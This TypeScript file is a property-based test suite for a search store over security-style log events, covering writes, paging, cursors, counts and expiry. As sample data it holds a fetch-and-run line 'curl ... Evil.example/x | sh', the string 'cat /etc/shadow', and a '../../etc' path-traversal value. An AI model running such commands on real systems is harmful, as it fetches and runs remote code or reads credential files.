/** The promises of the `SearchStore` port; every backend runs this suite. */
import fc from 'fast-check'
import { describe, expect, onTestFinished, test } from 'vitest'
import type { KqlNode, KqlValue } from '../../core/language/kql/ast.ts'
import type { Component } from '../../core/model/component.ts'
import type { Doc, Hit, Query, SearchStore } from '../../core/model/search-store.ts'
import { naiveMatches } from '../oracle/naive-kql.ts'

/** An empty store that knows `TEST_FIELDS`; the suite stops it. */
export type CreateStore = () => Promise<SearchStore & Component>

export const TEST_FIELDS = {
  '@timestamp': 'date',
  message: 'keyword',
  tags: 'keyword',
  'container.id': 'keyword',
  'container.name': 'keyword',
  'event.action': 'keyword',
  'event.id': 'keyword',
  'event.type': 'keyword',
  'event.severity': 'long',
  'file.path': 'keyword',
  'host.name': 'keyword',
  'log.level': 'keyword',
  'process.args': 'keyword',
  'process.command_line': 'keyword',
  'process.interactive': 'boolean',
  'process.name': 'keyword',
  'process.pid': 'long',
  'rule.name': 'keyword',
  'source.ip': 'ip',
  'system.load': 'double',
  'user.name': 'keyword',
} as const

const DAY = '2026-11-22'
export const NOON = Date.parse(`${DAY}T12:00:00Z`)

export const event = (
  id: string,
  timeMs: number,
  body: Record<string, unknown> = {},
  extra: Partial<Doc> = {},
): Doc => ({
  kind: 'event',
  id,
  timeMs,
  day: DAY,
  part: 0,
  body: { '@timestamp': new Date(timeMs).toISOString(), ...body },
  ...extra,
})

export const is = (field: string | null, text: string, quoted = false): KqlNode => ({
  kind: 'is',
  field,
  value: value(text, quoted),
})

export function value(text: string, quoted = false): KqlValue {
  const wildcards = quoted ? [] : [...text.matchAll(/\*/g)].map(({ index }) => index)
  return { text, quoted, wildcards }
}

/** All pages, newest first unless the query says otherwise. */
export async function searchAll(store: SearchStore, query: Query): Promise<Hit[]> {
  const hits: Hit[] = []
  for (let cursor: string | undefined; ; ) {
    const page = await store.search({ ...query, ...(cursor === undefined ? {} : { cursor }) })
    hits.push(...page.hits)
    cursor = page.next
    if (cursor === undefined) return hits
  }
}

const ids = (hits: readonly Hit[]) => hits.map(({ id }) => id)

export function searchStoreSuite(name: string, create: CreateStore): void {
  async function open(docs: readonly Doc[] = []) {
    const store = await create()
    onTestFinished(() => store.stop(1_000))
    expect(await store.write(docs)).toEqual([])
    return store
  }

  describe(`${name} as a search store`, () => {
    test('returns documents as they were written', async () => {
      const body = { process: { name: 'sh', args: ['sh', '-c', 'é\u0000"\n'] }, deep: { a: [{ b: 1 }, null] }, n: 1.5 }
      const store = await open([event('a', NOON, body)])
      const { hits } = await store.search({ kind: 'event', limit: 10 })
      expect(hits).toEqual([{ id: 'a', timeMs: NOON, body: { '@timestamp': `${DAY}T12:00:00.000Z`, ...body } }])
      expect(await store.get('event', 'a')).toEqual(hits[0])
      expect(await store.get('event', 'b')).toBeNull()
      expect(await store.get('detection', 'a')).toBeNull()
      expect(await store.getAll('event', ['b', 'a', 'a'])).toEqual([null, hits[0], hits[0]])
      expect(await store.getAll('event', [])).toEqual([])
      const many = Array.from({ length: 1_000 }, (_, i) => `none-${i}`)
      expect((await store.getAll('event', many)).every((hit) => hit === null)).toBe(true)
      await expect(store.getAll('event', [...many, 'one more'])).rejects.toThrow('1000')
    })

    test('an event or detection is created once; a repetition changes nothing', async () => {
      const store = await open([event('a', NOON, { message: 'first' }), event('a', NOON, { message: 'second' })])
      await store.write([event('a', NOON, { message: 'third' }), event('b', NOON + 1, { message: 'new' })])
      await store.write([event('a', NOON, { message: 'other kind' }, { kind: 'detection' })])
      const { hits } = await store.search({ kind: 'event', limit: 10 })
      expect(hits.map(({ body }) => body.message)).toEqual(['new', 'first'])
      expect(await store.count({ kind: 'event' }, [])).toEqual([{ key: [], count: 2 }])
    })

    test('the highest version of an alert wins, in whatever order versions come', async () => {
      const alert = (version: number) =>
        event('alert-1', NOON, { message: `v${version}`, rule: { name: `r${version}` } }, { kind: 'alert', version })
      const store = await open([alert(2)])
      await store.write([alert(1), alert(5), alert(3)])
      const { hits } = await store.search({ kind: 'alert', limit: 10 })
      expect(hits.map(({ body }) => body.message)).toEqual(['v5'])
      expect((await store.search({ kind: 'alert', filter: is('rule.name', 'r2'), limit: 10 })).hits).toEqual([])
      expect((await store.search({ kind: 'alert', filter: is(null, 'v5'), limit: 10 })).hits).toHaveLength(1)
      expect(await store.count({ kind: 'alert' }, ['rule.name'])).toEqual([{ key: ['r5'], count: 1 }])
    })

    test('refuses what it can never store, says why, and takes the rest', async () => {
      const store = await open()
      const refused = await store.write([
        event('ok', NOON),
        event('', NOON),
        event('time', NOON, {}, { timeMs: Number.NaN }),
        event('day', NOON, {}, { day: '2026-13-99' }),
        event('path', NOON, {}, { day: '../../etc' }),
        event('body', NOON, {}, { body: [] as unknown as Record<string, unknown> }),
      ])
      expect(refused.map(({ id }) => id)).toEqual(['', 'time', 'day', 'path', 'body'])
      expect(refused.every(({ reason }) => reason.length > 5)).toBe(true)
      expect(ids((await store.search({ kind: 'event', limit: 10 })).hits)).toEqual(['ok'])
    })

    test('pages through everything once, newest and oldest first, ties by id', async () => {
      const docs = Array.from({ length: 57 }, (_, i) =>
        event(`id-${(i * 7) % 57}`, NOON + (i % 9) * 40_000_000, {}, { day: `2026-11-2${i % 3}`, part: i % 2 }),
      )
      const store = await open(docs)
      const expected = [...docs].sort((a, b) => a.timeMs - b.timeMs || (a.id < b.id ? -1 : 1)).map(({ id }) => id)
      for (const limit of [1, 4, 10, 57, 1000]) {
        expect(ids(await searchAll(store, { kind: 'event', limit, order: 'oldest' }))).toEqual(expected)
        expect(ids(await searchAll(store, { kind: 'event', limit }))).toEqual([...expected].reverse())
      }
    })

    test('a cursor stays where it was while documents arrive', async () => {
      const docs = Array.from({ length: 30 }, (_, i) => event(`old-${i}`, NOON + i * 1_000))
      const store = await open(docs)
      const seen: string[] = []
      let cursor: string | undefined
      for (let page = 0; page === 0 || cursor !== undefined; page++) {
        const found = await store.search({ kind: 'event', limit: 4, ...(cursor === undefined ? {} : { cursor }) })
        seen.push(...ids(found.hits))
        cursor = found.next
        await store.write(Array.from({ length: 5 }, (_, i) => event(`new-${page}-${i}`, NOON + 60_000 + page * 10 + i)))
      }
      expect(seen).toEqual(docs.map(({ id }) => id).reverse())
    })

    test('keeps to the bounds of time: from inclusive, to exclusive', async () => {
      const store = await open([event('a', NOON - 1), event('b', NOON), event('c', NOON + 10)])
      const found = await store.search({ kind: 'event', fromMs: NOON, toMs: NOON + 10, limit: 10 })
      expect(ids(found.hits)).toEqual(['b'])
    })

    test('refuses limits, cursors and intervals that make no sense', async () => {
      const store = await open(Array.from({ length: 5 }, (_, i) => event(`${i}`, NOON + i)))
      for (const limit of [0, -1, 1001, 1.5, Number.NaN]) {
        await expect(store.search({ kind: 'event', limit })).rejects.toMatchObject({ code: 'E_STORE_QUERY' })
      }
      const { next } = await store.search({ kind: 'event', limit: 2 })
      const wrong: Partial<Query>[] = [
        { cursor: 'nonsense' },
        { cursor: 'x'.repeat(100_000) },
        { cursor: next!, order: 'oldest' },
        { cursor: next!, fromMs: 1 },
        { cursor: next!, filter: is('process.name', 'sh') },
        { cursor: next!, kind: 'alert' },
      ]
      for (const query of wrong) {
        const asked = store.search({ kind: 'event', limit: 2, ...query })
        await expect(asked).rejects.toMatchObject({ code: 'E_STORE_CURSOR' })
      }
      await expect(store.count({ kind: 'event' }, [], 0)).rejects.toMatchObject({ code: 'E_STORE_QUERY' })
      const four = ['process.name', 'user.name', 'rule.name', 'host.name']
      await expect(store.count({ kind: 'event' }, four)).rejects.toMatchObject({ code: 'E_STORE_QUERY' })
    })

    test('an id is measured in bytes, as every store can hold it', async () => {
      const store = await open()
      const [fits, tooLong] = ['é'.repeat(256), 'é'.repeat(257)]
      const refused = await store.write([event(fits, NOON), event(tooLong, NOON), event('ok', NOON + 1)])
      expect(refused).toEqual([{ id: tooLong, reason: expect.stringContaining('512 bytes') }])
      expect(ids((await store.search({ kind: 'event', limit: 10 })).hits)).toEqual(['ok', fits])
    })

    test('a query of any size answers or is refused, and the store goes on', async () => {
      const store = await open([event('a', NOON, { process: { name: 'sh' } })])
      const many: KqlNode = {
        kind: 'or',
        children: Array.from({ length: 3_000 }, (_, i) => is('process.name', `p${i}`)),
      }
      const found = await store.search({
        kind: 'event',
        filter: { kind: 'or', children: [many, is('process.name', 'sh')] },
        limit: 10,
      })
      expect(ids(found.hits)).toEqual(['a'])
      let deep: KqlNode = is('process.name', 'sh')
      for (let i = 0; i < 200; i++) deep = { kind: 'not', child: deep }
      expect(ids((await store.search({ kind: 'event', filter: deep, limit: 10 })).hits)).toEqual(['a'])
    })

    test('finds text anywhere in the words, whatever its case and however short', async () => {
      const store = await open([
        event('a', NOON, { process: { command_line: 'curl -s http://Evil.example/x | sh' } }),
        event('b', NOON + 1, { message: 'nothing to see', tags: ['one', 'EVIL twin'] }),
        event('c', NOON + 2, { unlisted: 'evil', process: { pid: 666 } }),
        event('d', NOON + 3, { message: `${'x'.repeat(5_000)} evil ${'y'.repeat(5_000)}` }),
      ])
      const find = async (text: string) =>
        ids((await store.search({ kind: 'event', filter: is(null, text), limit: 10 })).hits)
      expect(await find('evil')).toEqual(['d', 'b', 'a'])
      expect(await find('EviL.ex')).toEqual(['a'])
      expect(await find('vi')).toEqual(['d', 'b', 'a'])
      expect(await find('666')).toEqual([])
      expect(await find('absent')).toEqual([])
      expect(await find('"*%_')).toEqual([])
    })

    // Strings too long for an index take other paths, so that both kinds of stores are asked.
    test.each([
      ['short strings', arbitraryShortDoc],
      ['strings of any length', arbitraryDoc],
    ])('agrees with a naive evaluator on every query over %s', { timeout: 120_000 }, async (_, arbitrary) => {
      const docs = fc
        .sample(arbitrary, { numRuns: 160, seed: 42 })
        .map((body, i) => event(`d${i}`, NOON + (i % 50) * 1_000, body))
      const store = await create()
      onTestFinished(() => store.stop(1_000))
      for (let from = 0; from < docs.length; from += 37) await store.write(docs.slice(from, from + 37))
      await fc.assert(
        fc.asyncProperty(arbitraryQuery, async (filter) => {
          const expected = docs.filter(({ body }) => naiveMatches(filter, body, TEST_FIELDS)).map(({ id }) => id)
          const found = ids(await searchAll(store, { kind: 'event', filter, limit: 23 }))
          expect([...found].sort()).toEqual(expected.sort())
          const [total] = await store.count({ kind: 'event', filter }, [])
          expect(total?.count ?? 0).toBe(expected.length)
        }),
        { numRuns: 200 },
      )
    })

    test.each([
      ['short strings', arbitraryShortDoc],
      ['strings of any length', arbitraryDoc],
    ])(
      'counts over %s agree with counting by hand, after redelivery too',
      { timeout: 120_000 },
      async (_, arbitrary) => {
        const docs = fc
          .sample(arbitrary, { numRuns: 120, seed: 7 })
          .map((body, i) => event(`d${i}`, NOON + i * 7_321, body))
        const store = await open(docs)
        await store.write(docs.slice(20, 90))
        const by = fc.subarray(
          ['process.name', 'container.id', 'log.level', 'rule.name', 'tags', 'process.pid', 'event.type'],
          { maxLength: 3 },
        )
        const every = fc.constantFrom(undefined, 60_000, 300_000, 7_000)
        const from = fc.constantFrom(undefined, NOON, NOON + 61_234, NOON + 120_000)
        const filter = fc.option(arbitraryQuery, { nil: undefined })
        await fc.assert(
          fc.asyncProperty(by, every, from, filter, async (fields, everyMs, fromMs, node) => {
            const expected = new Map<string, number>()
            for (const { timeMs, body } of docs) {
              if (timeMs < (fromMs ?? 0) || timeMs >= NOON + 700_001) continue
              if (node !== undefined && !naiveMatches(node, body, TEST_FIELDS)) continue
              const start = everyMs === undefined ? null : timeMs - (timeMs % everyMs)
              const keys = fields
                .map((field) => distinct(body, field))
                .reduce<unknown[][]>((all, values) => all.flatMap((key) => values.map((v) => [...key, v])), [[]])
              for (const key of keys) {
                const bucket = JSON.stringify([start, ...key])
                expected.set(bucket, (expected.get(bucket) ?? 0) + 1)
              }
            }
            const query = {
              kind: 'event' as const,
              toMs: NOON + 700_001,
              ...(fromMs === undefined ? {} : { fromMs }),
              ...(node === undefined ? {} : { filter: node }),
            }
            const buckets = await store.count(query, fields, everyMs)
            const got = new Map(
              buckets.map(({ key, fromMs: start, count }) => [JSON.stringify([start ?? null, ...key]), count]),
            )
            expect([...got].sort()).toEqual([...expected].sort())
          }),
          { numRuns: 80 },
        )
      },
    )

    test('expires whole days, then the oldest parts until few enough bytes remain', async () => {
      const days = ['2026-11-19', '2026-11-20', '2026-11-21', '2026-11-22']
      const store = await open()
      for (const day of days) {
        for (const part of [0, 1]) {
          const docs = Array.from({ length: 50 }, (_, i) =>
            event(`${day}-${part}-${i}`, Date.parse(`${day}T0${part}:00:00Z`) + i, {}, { day, part }),
          )
          await store.write(docs)
        }
      }
      await store.expire('2026-11-20', Number.MAX_SAFE_INTEGER)
      const left = ids(await searchAll(store, { kind: 'event', limit: 1000, order: 'oldest' }))
      expect(left).toHaveLength(300)
      expect(left[0]).toBe('2026-11-20-0-0')
      await store.expire('2026-11-20', 0)
      expect(await searchAll(store, { kind: 'event', limit: 1000 })).toEqual([])
      await store.write([event('again', NOON)])
      expect(ids(await searchAll(store, { kind: 'event', limit: 10 }))).toEqual(['again'])
    })
  })
}

function distinct(body: Record<string, unknown>, field: string): unknown[] {
  const [outer, inner] = field.split('.')
  const found = inner === undefined ? body[outer!] : (body[outer!] as Record<string, unknown> | undefined)?.[inner]
  if (found === undefined || found === null) return [null]
  const values = Array.isArray(found) ? found : [found]
  return values.length === 0 ? [null] : [...new Set(values)]
}

const word = fc.constantFrom(
  'sh',
  'bash',
  'SH',
  'nginx',
  'cat /etc/shadow',
  'a*b',
  'é',
  '',
  'null',
  '日本語テキスト',
  'quo"te',
  '10',
  'true',
  '__proto__',
  'nul\0nul',
)
const longWord = fc.oneof({ weight: 12, arbitrary: word }, { weight: 1, arbitrary: fc.constant('x'.repeat(1_500)) })
const hexId = fc.constantFrom('18ab-00ff-1z', '18AB-00fe-2z', 'shadow-3')
const several = <T>(one: fc.Arbitrary<T>) => fc.oneof(one, fc.array(one, { maxLength: 3 }))
const address = fc.constantFrom('10.0.0.1', '10.0.0.200', '192.168.1.9', '::1', '2001:db8::1:2', 'no address')
const date = fc.constantFrom('2026-11-22T12:00:00.000Z', '2026-11-22T12:00:10.000Z', '2025-01-01T00:00:00.000Z')

const docOf = (word: fc.Arbitrary<string>) =>
  fc.record(
    {
      message: word,
      tags: several(word),
      container: fc.record({ id: word, name: word }, { requiredKeys: [] }),
      event: fc.record(
        { id: fc.oneof(word, hexId), action: word, type: several(word), severity: fc.integer({ min: 0, max: 12 }) },
        { requiredKeys: [] },
      ),
      log: fc.record({ level: fc.constantFrom('notice', 'warning', 'critical') }),
      process: fc.record(
        {
          name: several(word),
          args: fc.array(word, { maxLength: 3 }),
          command_line: word,
          pid: several(fc.integer({ min: 0, max: 12 })),
          interactive: fc.boolean(),
        },
        { requiredKeys: [] },
      ),
      rule: fc.record({ name: word }, { requiredKeys: [] }),
      source: fc.record({ ip: several(address) }, { requiredKeys: [] }),
      system: fc.record({ load: fc.constantFrom(0.5, 1, 10) }),
      started: date,
    },
    { requiredKeys: [] },
  )
const arbitraryDoc = docOf(longWord)
const arbitraryShortDoc = docOf(word)

const keywordField = fc.constantFrom(
  'message',
  'event.id',
  'tags',
  'container.id',
  'container.name',
  'event.action',
  'event.type',
  'log.level',
  'process.name',
  'process.args',
  'process.command_line',
  'rule.name',
  'user.name',
  'host.name',
  'file.path',
)
const pattern = fc.oneof(
  word,
  fc.constantFrom(
    '*',
    '*sh',
    's*',
    'b*s*h',
    '*etc*',
    '*a*h*',
    '**',
    'ca*dow',
    '*本語*',
    'xxx*',
    '*ul\0n*',
    'ba*',
    '18*z',
    '*AB-*',
    '18ab-00ff-1z',
  ),
)
const arbitraryLeaf: fc.Arbitrary<KqlNode> = fc.oneof(
  fc.tuple(keywordField, pattern, fc.boolean()).map(([field, text, quoted]) => is(field, text, quoted)),
  fc
    .tuple(
      fc.constantFrom('sh', 'SHADOW', 'e', 'é', 'etc/', 'xx', 'absent', '*', '本語', 'l\0n', '18ab', 'B-00F', '-3'),
      fc.boolean(),
    )
    .map(([text, quoted]) => is(null, text, quoted)),
  fc
    .tuple(fc.constantFrom('process.pid', 'event.severity', 'system.load'), fc.constantFrom('1', '10', '0.5', '7', 'x'))
    .map(([field, text]) => is(field, text)),
  fc.constantFrom('true', 'false', 'maybe').map((text) => is('process.interactive', text)),
  fc
    .constantFrom('10.0.0.1', '10.0.0.0/24', '10.0.0.0/8', '::1', '2001:db8::/32', '10.*', '1.2.3.4/99', 'x')
    .map((text) => is('source.ip', text)),
  fc
    .oneof(keywordField, fc.constantFrom('process.pid', 'source.ip', 'absent.field', 'process'))
    .map((field) => ({ kind: 'exists' as const, field })),
  fc
    .tuple(
      fc.constantFrom('process.pid', 'event.severity', 'system.load', '@timestamp'),
      fc.constantFrom('<' as const, '<=' as const, '>' as const, '>=' as const),
      fc.constantFrom('5', '0.5', '2026-11-22T12:00:10.000Z', 'x'),
    )
    .filter(([field, , text]) => field !== '@timestamp' || text.length > 3)
    .map(([field, operator, text]) => ({ kind: 'range' as const, field, operator, value: value(text, true) })),
  fc
    .tuple(
      fc.constantFrom('process.name', 'message'),
      fc.constantFrom('<' as const, '>=' as const),
      fc.constantFrom('c', 'sh'),
    )
    .map(([field, operator, text]) => ({ kind: 'range' as const, field, operator, value: value(text, true) })),
  fc.constant<KqlNode>({ kind: 'all' }),
)
const { query: arbitraryQuery } = fc.letrec<{ query: KqlNode }>((tie) => ({
  query: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    arbitraryLeaf,
    fc.array(tie('query'), { minLength: 1, maxLength: 3 }).map((children) => ({ kind: 'and' as const, children })),
    fc.array(tie('query'), { minLength: 1, maxLength: 3 }).map((children) => ({ kind: 'or' as const, children })),
    tie('query').map((child) => ({ kind: 'not' as const, child })),
  ),
}))
